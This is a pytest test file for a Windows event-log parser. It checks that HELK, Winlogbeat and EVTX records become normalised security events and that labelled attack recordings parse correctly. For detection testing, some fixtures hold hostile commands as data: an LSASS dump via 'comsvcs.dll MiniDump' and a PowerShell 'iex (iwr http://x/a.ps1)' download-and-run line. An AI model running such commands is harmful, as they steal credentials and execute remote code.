    description = {**gpo, "AttributeLDAPDisplayName": "description"}
    assert_fields(one(HELK, description), {"object": "description", "privileged": False})


@pytest.mark.parametrize("key", ["dcom_4104", "dcom_sysmon10", "psexec_4658", "sharpsc_system_10"])
def test_helk_irrelevant_records_are_skipped(key: str) -> None:
    # Recognised but unused: PowerShell 4104, Sysmon 10, handle close, and System 10 (a
    # Hyper-V driver event that must not be mistaken for Sysmon 10).
    assert HELK.sniff(HELK_RECORDS[key])
    assert HELK.parse(HELK_RECORDS[key], CTX) == []


def test_provider_decides_the_id_space_channel_is_the_fallback() -> None:
    logon = HELK_RECORDS["psexec_4624_pgustavo"]
    no_provider = {k: v for k, v in logon.items() if k != "SourceName"}
    assert one(HELK, no_provider).action is Action.LOGON  # Channel "security" suffices
    # Another provider's ids are its own, even in the Security channel (AD FS Auditing logs
    # there): no fallback to the channel.
    assert HELK.parse({**logon, "SourceName": "AD FS Auditing"}, CTX) == []
    assert HELK.parse({**no_provider, "Channel": "Application"}, CTX) == []


def test_helk_record_without_record_number_gets_a_stable_hash_id() -> None:
    record = HELK_RECORDS["lsa_7045"]
    first = one(HELK, record).record_id
    assert first.startswith("workstation5:x") and len(first) == len("workstation5:x") + 16
    assert one(HELK, dict(reversed(list(record.items())))).record_id == first
    assert one(HELK, {**record, "ServiceName": "Other"}).record_id != first


def test_helk_time_fallbacks_and_string_event_id() -> None:
    base = {k: v for k, v in HELK_RECORDS["psexec_4624_pgustavo"].items() if k != "@timestamp"}
    # EventTime is host local time without a zone: taken as UTC, as documented.
    assert one(HELK, base).time == utc("2020-09-20T12:16:56")
    assert one(HELK, {**base, "TimeCreated": "2020-09-20T16:16:56.5Z"}).time == utc(
        "2020-09-20T16:16:56.5"
    )
    assert one(HELK, {**base, "EventID": " 4624 "}).event_id == "4624"


def test_sentinel_security_event_rows_read_as_helk() -> None:
    assert HELK.sniff(SENTINEL_4624)
    event = one(HELK, SENTINEL_4624)
    expected = {
        "time": utc("2021-08-02T13:06:38.330"),
        "action": Action.LOGON,
        "user": "wardog",
        "src_ip": "192.168.2.5",
        "logon_type": "3",
        "dst_host": "dc01",
        "auth_protocol": "kerberos",
    }
    assert_fields(event, expected)
    assert event.record_id == "dc01:2d67cfe2-b74b-41c2-b17a-b448e4a08eb1"  # EventOriginId


# --- Winlogbeat: hand-written documents in the Winlogbeat 7/8 (ECS) shape ---------------------

WLB_AGENT = {"type": "winlogbeat", "version": "8.6.2", "name": "SRV-FS01"}

WLB_4624: dict[str, Any] = {
    "@timestamp": "2023-03-14T09:12:44.518Z",
    "agent": WLB_AGENT,
    "ecs": {"version": "8.0.0"},
    "event": {
        "code": "4624",
        "kind": "event",
        "provider": "Microsoft-Windows-Security-Auditing",
        "action": "logged-in",
        "category": ["authentication"],
        "type": ["start"],
        "outcome": "success",
        "created": "2023-03-14T09:12:46.001Z",
    },
    "host": {"name": "srv-fs01.corp.example.com", "hostname": "srv-fs01"},
    "log": {"level": "information"},
    "message": "An account was successfully logged on.",
    "winlog": {
        "api": "wineventlog",
        "channel": "Security",
        "computer_name": "SRV-FS01.corp.example.com",
        "event_id": "4624",
        "provider_name": "Microsoft-Windows-Security-Auditing",
        "provider_guid": "{54849625-5478-4994-a5ba-3e3b0328c30d}",
        "record_id": "1948213",
        "task": "Logon",
        "opcode": "Info",
        "keywords": ["Audit Success"],
        "process": {"pid": 784, "thread": {"id": 3412}},
        "logon": {"type": "Network", "id": "0x1a2b3c4"},
        "event_data": {
            "SubjectUserSid": "S-1-0-0",
            "SubjectUserName": "-",
            "TargetUserSid": "S-1-5-21-1004336348-1177238915-682003330-1107",
            "TargetUserName": "Alice",
            "TargetDomainName": "CORP",
            "LogonType": "3",
            "LogonProcessName": "NtLmSsp ",
            "AuthenticationPackageName": "NTLM",
            "WorkstationName": "WKS-0231",
            "LmPackageName": "NTLM V2",
            "KeyLength": "128",
            "ProcessName": "-",
            "IpAddress": "::ffff:10.20.30.41",
            "IpPort": "50412",
            "TargetOutboundUserName": "-",
        },
    },
    "source": {"ip": "10.20.30.41", "port": 50412, "domain": "WKS-0231"},
    "user": {"name": "Alice", "domain": "CORP"},
}

# Winlogbeat 7.x writes event_id and record_id as numbers.
WLB7_4625: dict[str, Any] = {
    "@timestamp": "2021-06-01T22:03:11.902Z",
    "agent": {"type": "winlogbeat", "version": "7.13.1"},
    "event": {
        "code": 4625,
        "provider": "Microsoft-Windows-Security-Auditing",
        "outcome": "failure",
    },
    "host": {"name": "WKS-0231"},
    "winlog": {
        "channel": "Security",
        "computer_name": "WKS-0231.corp.example.com",
        "event_id": 4625,
        "provider_name": "Microsoft-Windows-Security-Auditing",
        "record_id": 88213,
        "event_data": {
            "TargetUserName": "CORP\\bob",
            "Status": "0xC000006E",
            "SubStatus": "0xC0000072",
            "LogonType": "10",
            "AuthenticationPackageName": "Negotiate",
            "WorkstationName": "KALI",
            "IpAddress": "203.0.113.9",
        },
    },
}

WLB_1102: dict[str, Any] = {
    "@timestamp": "2023-03-14T23:59:01.100Z",
    "event": {"code": "1102", "provider": "Microsoft-Windows-Eventlog"},
    "host": {"name": "dc01.corp.example.com"},
    "winlog": {
        "channel": "Security",
        "computer_name": "DC01.corp.example.com",
        "event_id": "1102",
        "provider_name": "Microsoft-Windows-Eventlog",
        "record_id": "77120",
        "user_data": {
            "xml_name": "LogFileCleared",
            "SubjectUserSid": "S-1-5-21-1004336348-1177238915-682003330-500",
            "SubjectUserName": "Administrator",
            "SubjectDomainName": "CORP",
            "SubjectLogonId": "0x3e4a21",
        },
    },
}

WLB_SYSMON1: dict[str, Any] = {
    "@timestamp": "2023-03-14T10:00:00.250Z",
    "event": {"code": "1", "provider": "Microsoft-Windows-Sysmon", "category": ["process"]},
    "host": {"name": "wks-0231.corp.example.com"},
    "winlog": {
        "channel": "Microsoft-Windows-Sysmon/Operational",
        "computer_name": "WKS-0231.corp.example.com",
        "event_id": "1",
        "provider_name": "Microsoft-Windows-Sysmon",
        "record_id": "5512",
        "user": {"identifier": "S-1-5-18", "name": "SYSTEM", "domain": "NT AUTHORITY"},
        "event_data": {
            "UtcTime": "2023-03-14 10:00:00.123",
            "Image": "C:\\Windows\\System32\\rundll32.exe",
            "ParentImage": "C:\\Windows\\explorer.exe",
            "CommandLine": "rundll32.exe comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full",
            "User": "CORP\\alice",
            "IntegrityLevel": "High",
        },
    },
}

WLB_4732_DN: dict[str, Any] = {
    "@timestamp": "2023-03-15T08:00:00Z",
    "host": {"name": "dc01"},
    "winlog": {
        "channel": "Security",
        "computer_name": "DC01.corp.example.com",
        "event_id": "4732",
        "provider_name": "Microsoft-Windows-Security-Auditing",
        "record_id": "90001",
        "event_data": {
            "MemberName": "CN=Smith\\, Bob,OU=Staff,DC=corp,DC=example,DC=com",
            "MemberSid": "S-1-5-21-1004336348-1177238915-682003330-1311",
            "TargetUserName": "Remote Desktop Users",
            "TargetDomainName": "Builtin",
            "SubjectUserName": "helpdesk01",
            "SubjectDomainName": "CORP",
        },
    },
}

WLB_4740: dict[str, Any] = {
    "@timestamp": "2023-03-15T08:05:00Z",
    "event": {"code": "4740"},
    "host": {"name": "dc01"},
    "winlog": {
        "channel": "Security",
        "computer_name": "DC01.corp.example.com",
        "event_id": "4740",
        "provider_name": "Microsoft-Windows-Security-Auditing",
        "record_id": "90002",
        "event_data": {
            "TargetUserName": "carol",
            "TargetDomainName": "WKS-0777",
            "SubjectUserName": "DC01$",
            "SubjectDomainName": "CORP",
        },
    },
}

# fmt: off
WLB_CASES: list[tuple[str, dict[str, Any], dict[str, Any]]] = [
    ("4624-ecs8", WLB_4624, {
        "time": utc("2023-03-14T09:12:44.518"), "action": Action.LOGON, "user": "alice",
        "src_ip": "10.20.30.41", "src_host": "wks-0231", "dst_host": "srv-fs01",
        "logon_type": "3", "auth_protocol": "ntlm", "target_user": "", "event_id": "4624",
        "record_id": "srv-fs01:1948213", "source_format": "winlogbeat",
    }),
    ("4625-ecs7", WLB7_4625, {
        "action": Action.LOGON_FAILED, "outcome": Outcome.FAILURE, "user": "bob",
        "reason": "0xc000006e/0xc0000072", "src_ip": "203.0.113.9", "src_host": "kali",
        "logon_type": "10", "dst_host": "wks-0231", "record_id": "wks-0231:88213",
    }),
    ("1102-user_data", WLB_1102, {
        "action": Action.LOG_CLEARED, "user": "administrator", "dst_host": "dc01",
        "event_id": "1102",
    }),
    ("sysmon1", WLB_SYSMON1, {
        "action": Action.PROCESS_START, "user": "alice", "event_id": "sysmon:1",
        "object": "C:\\Windows\\System32\\rundll32.exe", "app": "C:\\Windows\\explorer.exe",
        "time": utc("2023-03-14T10:00:00.123"),
    }),
    ("4732-dn-member", WLB_4732_DN, {
        "action": Action.GROUP_CHANGE, "user": "helpdesk01", "target_user": "smith, bob",
        "object": "Remote Desktop Users", "privileged": True, "reason": "added",
    }),
    ("4740-lockout", WLB_4740, {
        "action": Action.ACCOUNT_LOCKOUT, "user": "", "target_user": "carol",
        "src_host": "wks-0777", "dst_host": "dc01",
    }),
]
# fmt: on


@pytest.mark.parametrize(
    ("record", "expected"), [(r, e) for _, r, e in WLB_CASES], ids=[i for i, _, _ in WLB_CASES]
)
def test_winlogbeat_records(record: dict[str, Any], expected: dict[str, Any]) -> None:
    assert WINLOGBEAT.sniff(record)
    assert not HELK.sniff(record) and not EVTX.sniff(record)
    assert_fields(one(WINLOGBEAT, record), expected)


def test_winlogbeat_event_code_fallback_and_skips() -> None:
    winlog = {k: v for k, v in WLB_4624["winlog"].items() if k != "event_id"}
    assert one(WINLOGBEAT, {**WLB_4624, "winlog": winlog}).event_id == "4624"
    powershell = {
        "@timestamp": "2023-03-14T10:00:00Z",
        "winlog": {
            "channel": "Microsoft-Windows-PowerShell/Operational",
            "provider_name": "Microsoft-Windows-PowerShell",
            "event_id": "4104",
            "event_data": {"ScriptBlockText": "iex (iwr http://x/a.ps1)"},
        },
    }
    assert WINLOGBEAT.parse(powershell, CTX) == []


# --- EVTX: the dict pyevtx-rs decodes, built by hand in its shape -----------------------------


def evtx_record(
    event_id: int | dict[str, Any],
    data: dict[str, Any] | None,
    *,
    provider: str = "Microsoft-Windows-Security-Auditing",
    channel: str = "Security",
    computer: str = "SRV-APP02.corp.example.com",
    system_time: str = "2022-11-03T14:21:07.118230Z",
    record_id: int = 40412,
    user_data: dict[str, Any] | None = None,
) -> dict[str, Any]:
    event: dict[str, Any] = {
        "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
        "System": {
            "Provider": {"#attributes": {"Name": provider, "Guid": "{00000000-0000-0000-0000}"}},
            "EventID": event_id,
            "Version": 2,
            "Level": 0,
            "Task": 12544,
            "Opcode": 0,
            "Keywords": "0x8020000000000000",
            "TimeCreated": {"#attributes": {"SystemTime": system_time}},
            "EventRecordID": record_id,
            "Correlation": None,
            "Execution": {"#attributes": {"ProcessID": 648, "ThreadID": 7104}},
            "Channel": channel,
            "Computer": computer,
            "Security": None,
        },
    }
    if data is not None or user_data is None:
        event["EventData"] = data
    if user_data is not None:
        event["UserData"] = user_data
    return {"Event": event}


EVTX_4624 = evtx_record(
    4624,
    {
        "TargetUserName": "svc_backup",
        "TargetDomainName": "CORP",
        "LogonType": 3,
        "AuthenticationPackageName": "Kerberos",
        "WorkstationName": "-",
        "IpAddress": "10.1.2.3",
        "KeyLength": 0,
    },
)
EVTX_7045 = evtx_record(
    {"#attributes": {"Qualifiers": 16384}, "#text": 7045},
    {
        "ServiceName": "updsvc",
        "ImagePath": "C:\\ProgramData\\updsvc.exe",
        "ServiceType": "user mode service",
        "StartType": "auto start",
        "AccountName": "LocalSystem",
    },
    provider="Service Control Manager",
    channel="System",
    record_id=9921,
)
EVTX_1102 = evtx_record(
    1102,
    None,
    provider="Microsoft-Windows-Eventlog",
    user_data={
        "LogFileCleared": {
            "#attributes": {"xmlns": "http://manifests.microsoft.com/win/2004/08/windows/eventlog"},
            "SubjectUserSid": "S-1-5-21-1004336348-1177238915-682003330-1107",
            "SubjectUserName": "eve",
            "SubjectDomainName": "CORP",
            "SubjectLogonId": "0x8d7099",
        }
    },
)
# Sysmon UtcTime deliberately differs: EVTX time always comes from System/TimeCreated.
EVTX_SYSMON3 = evtx_record(
    3,
    {
        "UtcTime": "2022-11-03 14:22:59.834",
        "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "User": "CORP\\eve",
        "Initiated": True,
        "SourceIp": "10.1.2.50",
        "SourceHostname": "SRV-APP02.corp.example.com",
        "DestinationIp": "10.1.9.9",
        "DestinationHostname": "",
        "DestinationPort": 445,
    },
    provider="Microsoft-Windows-Sysmon",
    channel="Microsoft-Windows-Sysmon/Operational",
)

# fmt: off
EVTX_CASES: list[tuple[str, dict[str, Any], dict[str, Any]]] = [
    ("4624-int-fields", EVTX_4624, {
        "time": datetime(2022, 11, 3, 14, 21, 7, 118230, tzinfo=UTC), "action": Action.LOGON,
        "user": "svc_backup", "logon_type": "3", "src_ip": "10.1.2.3", "dst_host": "srv-app02",
        "record_id": "srv-app02:40412", "event_id": "4624", "source_format": "evtx",
    }),
    ("7045-qualified-id", EVTX_7045, {
        "action": Action.REMOTE_EXEC, "object": "updsvc", "app": "C:\\ProgramData\\updsvc.exe",
        "user": "", "target_user": "localsystem", "event_id": "7045",
        "record_id": "srv-app02:9921",
    }),
    ("1102-user-data", EVTX_1102, {
        "action": Action.LOG_CLEARED, "user": "eve", "object": "Security", "event_id": "1102",
    }),
    ("sysmon3-outbound", EVTX_SYSMON3, {
        "time": datetime(2022, 11, 3, 14, 21, 7, 118230, tzinfo=UTC),
        "action": Action.NETWORK_CONNECT, "user": "eve", "src_ip": "10.1.2.50",
        "src_host": "srv-app02", "dst_host": "10.1.9.9", "object": "10.1.9.9:445",
        "event_id": "sysmon:3",
    }),
]
# fmt: on


@pytest.mark.parametrize(
    ("record", "expected"), [(r, e) for _, r, e in EVTX_CASES], ids=[i for i, _, _ in EVTX_CASES]
)
def test_evtx_records(record: dict[str, Any], expected: dict[str, Any]) -> None:
    assert EVTX.sniff(record)
    assert not HELK.sniff(record) and not WINLOGBEAT.sniff(record)
    assert_fields(one(EVTX, record), expected)


def test_evtx_event_data_null_with_user_data_and_non_sysmon_id() -> None:
    explicit_null = EVTX_1102["Event"] | {"EventData": None}
    assert one(EVTX, {"Event": explicit_null}).user == "eve"
    # System event 10 from another provider is not Sysmon 10 (or anything we map).
    assert EVTX.parse(evtx_record(10, {}, provider="Microsoft-Windows-Kernel-General"), CTX) == []


def test_parsers_are_registered_as_json_parsers() -> None:
    for name, cls in (("helk", HelkParser), ("winlogbeat", WinlogbeatParser), ("evtx", EvtxParser)):
        assert isinstance(PARSERS[name], cls)
        assert PARSERS[name].kind == "json"
    assert not any(p.sniff("EventID=4624") for p in (HELK, WINLOGBEAT, EVTX))


# --- Dead letters -------------------------------------------------------------------------

P4624 = HELK_RECORDS["psexec_4624_pgustavo"]
# fmt: off
BAD_CASES: list[tuple[str, Any, Any, str]] = [
    ("no-event-id", HELK, {k: v for k, v in P4624.items() if k != "EventID"}, "missing EventID"),
    ("text-event-id", HELK, {**P4624, "EventID": "46x4"}, "non-integer EventID"),
    ("bool-event-id", HELK, {**P4624, "EventID": True}, "non-integer EventID"),
    ("float-event-id", HELK, {**P4624, "EventID": 4624.0}, "non-integer EventID"),
    ("huge-event-id", HELK, {**P4624, "EventID": 704624}, "EventID out of range"),
    ("no-time", HELK, {k: v for k, v in P4624.items() if k not in ("@timestamp", "EventTime")},
     "missing @timestamp"),
    ("bad-time", HELK, {**P4624, "@timestamp": "yesterday"}, "unparseable @timestamp"),
    ("absurd-time", HELK, {**P4624, "@timestamp": "1601-01-01T00:00:00Z"}, "absurd @timestamp"),
    ("container-user", HELK, {**P4624, "TargetUserName": {"#text": "x"}}, "expected a scalar"),
    ("not-an-object", HELK, "EventID=4624", "expected a JSON object"),
    ("wlb-list-data", WINLOGBEAT, {**WLB_4624, "winlog": {**WLB_4624["winlog"], "event_data": []}},
     "winlog.event_data is not an object"),
    ("wlb-no-id", WINLOGBEAT, {"@timestamp": "2023-01-01T00:00:00Z", "winlog": {"event_data": {}}},
     "missing EventID"),
    ("evtx-no-time", EVTX, evtx_record(4624, {}, system_time=""),
     "missing TimeCreated/@SystemTime"),
    ("evtx-1601", EVTX, evtx_record(4624, {}, system_time="1601-01-01T00:00:00Z"), "absurd"),
    ("evtx-list-data", EVTX, evtx_record(4624, {"Data": 1}) | {"Event": {
        **evtx_record(4624, {})["Event"], "EventData": ["a", "b"]}}, "EventData is not an object"),
    ("evtx-id-no-text", EVTX, evtx_record({"#attributes": {"Qualifiers": 0}}, {}),
     "missing EventID"),
    ("evtx-system-not-dict", EVTX, {"Event": {"System": "x"}}, "missing Event.System"),
]
# fmt: on


@pytest.mark.parametrize(
    ("parser", "record", "reason"),
    [(p, r, why) for _, p, r, why in BAD_CASES],
    ids=[i for i, *_ in BAD_CASES],
)
def test_bad_records_raise_bad_record(parser: Any, record: Any, reason: str) -> None:
    with pytest.raises(BadRecord, match=reason):
        parser.parse(record, CTX)


def test_unexpected_exceptions_become_bad_records(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(fields: Mapping[str, Any], host: str) -> dict[str, Any]:
        return {"action": Action.LOGON, **fields["NoSuchField"]}

    monkeypatch.setitem(windows.HANDLERS, ("security", 4624), broken)
    with pytest.raises(BadRecord, match="malformed helk record: KeyError"):
        HELK.parse(P4624, CTX)


def test_irrelevant_records_are_skipped_before_their_time_is_read() -> None:
    # Skipping costs a dict lookup; a bad clock on a record nobody uses is not a dead letter.
    record = {**HELK_RECORDS["dcom_sysmon10"], "@timestamp": "garbage"}
    assert HELK.parse(record, CTX) == []


SCALARS = st.one_of(
    st.none(), st.booleans(), st.integers(-(2**63), 2**63 - 1), st.floats(), st.text(max_size=30)
)
JSON_VALUES = st.recursive(
    SCALARS,
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3)
    ),
    max_leaves=6,
)
# fmt: off
FIELD_NAMES = st.sampled_from(
    ["TargetUserName", "SubjectUserName", "IpAddress", "LogonType", "MemberName", "MemberSid",
     "ServiceName", "Status", "ShareName", "UtcTime", "User", "Properties", "AccessMask",
     "TargetServerName", "Initiated", "DestinationPort", "ObjectDN", "ObjectClass", "Message",
     "AccountName", "UserID", "AccountType"]
)
# fmt: on
MAPPED_IDS = sorted({event_id for _, event_id in windows.HANDLERS})


@settings(max_examples=300, deadline=None)
@given(
    event_id=st.sampled_from(MAPPED_IDS) | JSON_VALUES,
    source=st.sampled_from(
        [
            "Microsoft-Windows-Security-Auditing",
            "Microsoft-Windows-Sysmon",
            "Service Control Manager",
            "Microsoft-Windows-Eventlog",
        ]
    ),
    fields=st.dictionaries(FIELD_NAMES, JSON_VALUES, max_size=6),
    time=st.sampled_from(["2021-05-01T10:00:00Z", "2021-05-01 10:00:00", "", "x"]) | JSON_VALUES,
)
def test_fuzzed_records_only_ever_raise_bad_record(
    event_id: Any, source: str, fields: dict[str, Any], time: Any
) -> None:
    helk = {
        **fields,
        "EventID": event_id,
        "SourceName": source,
        "Hostname": "h",
        "@timestamp": time,
    }
    evtx = evtx_record(4624, fields, provider=source)
    evtx["Event"]["System"]["EventID"] = event_id
    evtx["Event"]["System"]["TimeCreated"] = {"#attributes": {"SystemTime": time}}
    for parser, record in ((HELK, helk), (EVTX, evtx)):
        try:
            events = parser.parse(record, CTX)
        except BadRecord:
            continue
        assert all(isinstance(event, Event) for event in events) and len(events) <= 1


# --- Every real recording -----------------------------------------------------------------

DATA = Path(
    os.environ.get("VIGIL_SHARED_DATA")
    or Path(__file__).resolve().parents[2].parent / "shared" / "data"
)
NO_DATA = f"shared data not found at {DATA} (set VIGIL_SHARED_DATA)"
SD_DIR = DATA / "security-datasets" / "atomic" / "windows"
EVTX_DIR = DATA / "evtx-attack-samples"


def data_files(root: Path, pattern: str) -> list[Any]:
    files = sorted(root.glob(pattern)) if root.is_dir() else []
    params = [pytest.param(path, id=path.name) for path in files]
    return params or [pytest.param(None, marks=pytest.mark.skip(reason=NO_DATA), id="no-data")]


# The contract, stated here independently of the implementation's tables: which (provider,
# event id) pairs become an Event; every other record must be skipped.
# fmt: off
MAPPED_BY_PROVIDER: dict[str, frozenset[int]] = {
    "Microsoft-Windows-Security-Auditing": frozenset(
        {4624, 4625, 4634, 4647, 4648, 4672, 4688, 4697, 4698, 4662, 4719, 4912, 5136, 5140,
         5145, 4740, 4720, 4722, 4723, 4724, 4725, 4726, 4738, 4741, 4742, 4743, 4765, 4767,
         4781, 4794, 4728, 4732, 4756, 4729, 4733, 4757, 4768, 4769, 4771, 4776}
    ),
    "Microsoft-Windows-Sysmon": frozenset({1, 3}),
    "Service Control Manager": frozenset({7045}),
    "Microsoft-Windows-Eventlog": frozenset({1102, 104}),
}
# Mapped only for some records (a file delete or a file's ACL change; not a read, a registry
# key or a cache file): tests/schemas/test_windows_files.py states which.
MAPPED_SOMETIMES: dict[str, frozenset[int]] = {
    "Microsoft-Windows-Security-Auditing": frozenset({4663, 4670}),
    "Microsoft-Windows-Sysmon": frozenset({23, 26}),
}
# fmt: on


def expected_to_map(provider: str, event_id: int) -> bool | None:
    """True/False, or None when the record decides (MAPPED_SOMETIMES)."""
    if event_id in MAPPED_SOMETIMES.get(provider, frozenset()):
        return None
    return event_id in MAPPED_BY_PROVIDER.get(provider, frozenset())


@dataclass
class Raw:
    """What a test needs to know about one raw record, whatever its shape."""

    provider: str
    event_id: int
    record_number: int | None
    fields: Mapping[str, Any]


def describe_helk(record: Mapping[str, Any]) -> Raw:
    return Raw(record.get("SourceName", ""), record["EventID"], record.get("RecordNumber"), record)


def describe_evtx(record: Mapping[str, Any]) -> Raw:
    event = record["Event"]
    system = event["System"]
    event_id = system["EventID"]
    fields = event.get("EventData") or next(iter((event.get("UserData") or {None: {}}).values()))
    return Raw(
        system["Provider"]["#attributes"]["Name"],
        event_id["#text"] if isinstance(event_id, dict) else event_id,
        system["EventRecordID"],
        fields,
    )


def helk_records(path: Path) -> Iterator[dict[str, Any]]:
    with zipfile.ZipFile(path) as archive:
        for member in archive.namelist():
            for line in archive.read(member).splitlines():  # LF and CRLF files alike
                if line.strip():
                    yield orjson.loads(line)


def evtx_records(path: Path) -> Iterator[dict[str, Any]]:
    import evtx  # only the real-file tests need the Rust reader

    for record in evtx.PyEvtxParser(str(path)).records_json():
        assert isinstance(record, dict)  # the reader yields dicts; errors raise
        yield orjson.loads(record["data"])


@dataclass
class Parsed:
    label: Mapping[str, Any]
    total: int = 0
    bad: list[str] = field(default_factory=list)
    events: list[Event] = field(default_factory=list)
    against_contract: list[str] = field(default_factory=list)
    # indicator index -> [(raw record, events produced)]
    hits: dict[int, list[tuple[Raw, list[Event]]]] = field(default_factory=dict)


@functools.cache
def labels(collection: str) -> dict[str, Mapping[str, Any]]:
    path = DATA / collection / "LABELS.json"
    if not path.exists():
        return {}
    entries = orjson.loads(path.read_bytes())["datasets"]
    return {entry["file"]: entry for entry in entries if "file" in entry}  # compound: a folder


def selector_matches(selector: Mapping[str, Any], record: Mapping[str, Any]) -> bool:
    """LABELS.json semantics: all keys match case-insensitively; ``key~`` is a substring."""
    for key, wanted in selector.items():
        if key.endswith("~"):
            if str(wanted).lower() not in str(record.get(key[:-1], "")).lower():
                return False
        elif str(record.get(key, "")).lower() != str(wanted).lower():
            return False
    return True


@functools.cache
def parse_file(path: Path) -> Parsed:
    is_evtx = path.suffix == ".evtx"
    parser, read, describe = (
        (EVTX, evtx_records, describe_evtx) if is_evtx else (HELK, helk_records, describe_helk)
    )
    label = labels(path.relative_to(DATA).parts[0]).get(path.relative_to(DATA).as_posix(), {})
    indicators = list(enumerate(label.get("indicators", [])))
    result = Parsed(label=label, hits={index: [] for index, _ in indicators})
    for record in read(path):
        result.total += 1
        assert parser.sniff(record)
        try:
            events = parser.parse(record, CTX)
        except BadRecord as exc:
            result.bad.append(str(exc))
            continue
        raw = describe(record)
        expected = expected_to_map(raw.provider, raw.event_id)
        if expected is not None and bool(events) != expected:
            result.against_contract.append(f"{raw.provider}:{raw.event_id} -> {events}")
        result.events.extend(events)
        for index, indicator in indicators:
            if is_evtx:
                hit = raw.record_number in indicator.get("event_record_ids", ())
            else:
                hit = selector_matches(indicator["match"], record)
            if hit:
                result.hits[index].append((raw, events))
    return result


def check_entities(event: Event) -> None:
    """Entity fields are normalised whatever the source wrote."""
    for name in ("user", "target_user"):
        value = getattr(event, name)
        assert value == value.strip().lower(), (name, event)
        assert "\\" not in value and "@" not in value and not is_machine_account(value), event
    for name in ("src_host", "dst_host", "device"):
        value = getattr(event, name)
        assert value == value.lower() and ("." not in value or normalise_ip(value)), (name, event)
    assert event.src_ip == normalise_ip(event.src_ip)
    host, _, number = event.record_id.partition(":")
    assert number and host == host.lower()
    assert event.event_id


def check_selector(selector: Mapping[str, Any], event: Event) -> None:
    """The fields an indicator selects on come out where the Event schema says."""
    for key, value in selector.items():
        text = str(value)
        if key == "TargetUserName":
            seen = {event.user, event.target_user, event.device, event.src_host}
            seen.add(event.object.lower())
            assert normalise_user(text) in seen or normalise_host(text) in seen, (key, event)
        elif key == "SubjectUserName" and event.action is not Action.LOGON_FAILED:
            # (4625's subject is the caller of LogonUser; the Event's user is the account tried)
            want = "" if is_machine_account(text) else normalise_user(text)
            assert event.user == want, (key, event)
        elif key == "Hostname":
            where = event.src_host if event.action is Action.EXPLICIT_CREDENTIAL else event.dst_host
            assert where == normalise_host(text), (key, event)
        elif key == "TargetServerName":
            assert event.dst_host == normalise_host(text), (key, event)
        elif key == "IpAddress":
            assert event.src_ip == normalise_ip(text), (key, event)
        elif key == "LogonType":
            assert event.logon_type == text, (key, event)
        elif key == "TargetOutboundUserName":
            assert event.target_user == normalise_user(text), (key, event)
        elif key in ("ServiceName", "AttributeLDAPDisplayName"):
            assert event.object == text, (key, event)
        elif key == "ShareName":
            assert event.object.lower().startswith(text.lower()), (key, event)
        elif key == "RelativeTargetName":
            assert event.object.lower().endswith("\\" + text.lower()), (key, event)
        elif key == "Status":
            failed = text.lower() != "0x0"
            assert (event.outcome is Outcome.FAILURE) == failed, (key, event)
            assert not failed or text.lower() in event.reason, (key, event)
        elif key == "NewProcessName~":
            assert text.lower() in event.object.lower(), (key, event)
        elif key in ("ParentProcessName~", "ImagePath~", "ServiceFileName~"):
            assert text.lower() in event.app.lower(), (key, event)
        elif key == "AccessMask":
            assert event.privileged is (int(text, 16) & 0x40000 != 0), (key, event)
        elif key == "Properties~" and "1131f6a" in text.lower():
            assert event.object.startswith("DS-Replication-Get-Changes"), (key, event)


def check_file(path: Path) -> Parsed:
    result = parse_file(path)
    assert result.total > 0
    assert len(result.bad) <= 0.01 * result.total, result.bad[:5]
    assert not result.against_contract, result.against_contract[:5]
    for event in result.events:
        check_entities(event)
    for index, indicator in enumerate(result.label.get("indicators", [])):
        hits = result.hits[index]
        record_ids = indicator.get("event_record_ids")
        if record_ids is None:  # Security-Datasets: a selector with its match count
            assert len(hits) == indicator["count"], indicator
        else:  # EVTX labels list up to 50 of the matching record ids
            assert len(hits) == len(record_ids) <= indicator["count"], indicator
        for raw, events in hits:
            expected = expected_to_map(raw.provider, raw.event_id)
            if expected is None:  # the record decides: test_windows_files.py
                continue
            if expected:
                [event] = events
                check_selector(indicator["match"], event)
            else:  # labelled but out of scope (Sysmon 10/11, 4702, 4799...): skipped
                assert events == [], indicator
    return result


@pytest.mark.parametrize("path", data_files(SD_DIR, "**/*.zip"))
def test_security_datasets_file(path: Path) -> None:
    result = check_file(path)
    assert result.total == result.label["records"]
    assert result.events, "every capture holds security-relevant events"
    # Non-Sysmon events are stamped with the file's own time field (LABELS' time_field).
    first, last = (utc(result.label[k].rstrip("Z")) for k in ("time_first", "time_last"))
    for event in result.events:
        if not event.event_id.startswith("sysmon:"):
            assert first <= event.time <= last, event


@pytest.mark.parametrize("path", data_files(EVTX_DIR, "**/*.evtx"))
def test_evtx_attack_samples_file(path: Path) -> None:
    result = check_file(path)
    label = result.label
    assert result.total == label["records"]
    # Times come from System/TimeCreated (never the shifted/1601 record-header time).
    first, last = (utc(label[k].rstrip("Z")) for k in ("time_first", "time_last"))
    assert all(first <= event.time <= last for event in result.events)
    by_number = {event.record_id.rpartition(":")[2]: event for event in result.events}
    for record_id in label.get("log_cleared_record_ids_likely_collection_artefact", ()):
        assert by_number[str(record_id)].action is Action.LOG_CLEARED


# --- Labelled facts in specific files ------------------------------------------------------


def events_of(relative: str, **where: Any) -> list[Event]:
    path = DATA / relative
    if not path.exists():
        pytest.skip(NO_DATA)
    return [
        event
        for event in parse_file(path).events
        if all(getattr(event, key) == value for key, value in where.items())
    ]


SD = "security-datasets/atomic/windows/"
EV = "evtx-attack-samples/"


def test_empire_psexec_lateral_movement() -> None:
    psexec = SD + "lateral_movement/host/empire_psexec_dcerpc_tcp_svcctl.zip"
    [logon] = events_of(psexec, action=Action.LOGON, user="pgustavo", dst_host="workstation6")
    assert (logon.src_ip, logon.logon_type, logon.auth_protocol) == ("172.18.39.5", "3", "kerberos")
    installs = events_of(psexec, action=Action.REMOTE_EXEC, object="Updater")
    assert {(e.event_id, e.user, e.dst_host) for e in installs} == {
        ("4697", "pgustavo", "workstation6"),
        ("7045", "pgustavo", "workstation6"),
    }
    [ticket] = events_of(psexec, action=Action.AUTH_TICKET, user="pgustavo", object="WORKSTATION6$")
    assert ticket.dst_host == "mordordc" and ticket.src_ip == "172.18.39.5"


def test_psexec_lsa_dump_uses_time_created_and_sysmon_utc() -> None:
    lsa = SD + "credential_access/host/cmd_psexec_lsa_secrets_dump.zip"
    [install] = events_of(lsa, event_id="4697")
